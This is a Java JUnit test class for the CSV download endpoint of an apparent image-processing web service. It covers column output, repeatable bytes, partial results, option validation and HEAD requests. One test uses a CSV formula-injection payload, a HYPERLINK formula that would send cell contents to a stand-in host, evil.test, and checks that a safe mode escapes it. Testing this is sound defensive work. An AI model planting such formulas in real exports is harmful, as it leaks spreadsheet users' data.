package dev.halftone.app.web;

import static dev.halftone.app.LiveServer.CSV;
import static dev.halftone.app.LiveServer.HEADER;
import static org.assertj.core.api.Assertions.assertThat;

import dev.halftone.app.Caller;
import dev.halftone.app.LiveServer;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// The CSV that comes back.
class OutputCsvTest {
    @RegisterExtension
    static final LiveServer server = LiveServer.start();

    private final Caller caller = server.caller();

    @Test
    void givesTheCsvBackWithOneMoreColumn() {
        var path = caller.submit(HEADER + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\"\r\n");
        caller.awaitEnd(path);

        var output = caller.get(path + "/output.csv");

        assertThat(output.text().replaceAll("[0-9a-f]{32}", "#"))
                .isEqualTo("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n"
                        + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\","
                        + "\"http://halftone.test/processed_images/#.jpg,\"\r\n");
        assertThat(output.header("Content-Type")).isEqualToIgnoringWhitespace("text/csv; charset=utf-8");
        assertThat(output.header("Content-Disposition")).isEqualTo("attachment; filename=\"output.csv\"");
    }

    @Test
    void givesTheSameBytesEveryTime() {
        var path = caller.submit(CSV);
        caller.awaitEnd(path);

        var first = caller.get(path + "/output.csv").response().body();

        assertThat(caller.get(path + "/output.csv").response().body()).isEqualTo(first);
    }

    @Test
    void isNotThereBeforeTheEndUnlessAPartIsWanted() {
        var doors = new CountDownLatch(1);
        server.studio().waitsFor(doors);
        var path = caller.submit(CSV);

        var whole = caller.get(path + "/output.csv");
        var part = caller.get(path + "/output.csv?partial=true");
        doors.countDown();

        assertThat(whole.outcome()).isEqualTo("409 not_finished");
        assertThat(part.status()).isEqualTo(200);
        assertThat(part.text()).startsWith("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n");
    }

    @Test
    void givesFormulasBackAsTheyCameUnlessASpreadsheetIsToReadThem() {
        var path = caller.submit(HEADER
                + "-5,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",http://a.test/1.jpg\r\n"
                + "@SUM(1),Chair,http://a.test/2.jpg\r\n");
        caller.awaitEnd(path);

        assertThat(caller.get(path + "/output.csv").text())
                .contains("\r\n-5,\"=HYPERLINK(\"\"http://evil.test", "\r\n@SUM(1),Chair,")
                .isEqualTo(caller.get(path + "/output.csv?safe=false").text());
        assertThat(caller.get(path + "/output.csv?safe=true").text())
                .startsWith("Serial Number,")
                .contains("\r\n-5,\"'=HYPERLINK(\"\"http://evil.test", "\r\n'@SUM(1),Chair,http://a.test/2.jpg,http");
    }

    @ParameterizedTest
    @ValueSource(strings = {"partial", "safe"})
    void refusesWhatIsNeitherTrueNorFalse(String field) {
        var answer = caller.get(caller.submit(CSV) + "/output.csv?" + field + "=yes");

        assertThat(answer.outcome()).isEqualTo("422 invalid_option");
        assertThat(answer.at("/field")).isEqualTo(field);
    }

    @Test
    void tellsItsHeadersAlone() {
        var path = caller.submit(CSV);
        caller.awaitEnd(path);

        var head = caller.call("HEAD", path + "/output.csv", BodyPublishers.noBody());

        assertThat(head.status()).isEqualTo(200);
        assertThat(head.header("Content-Disposition")).startsWith("attachment");
    }
}
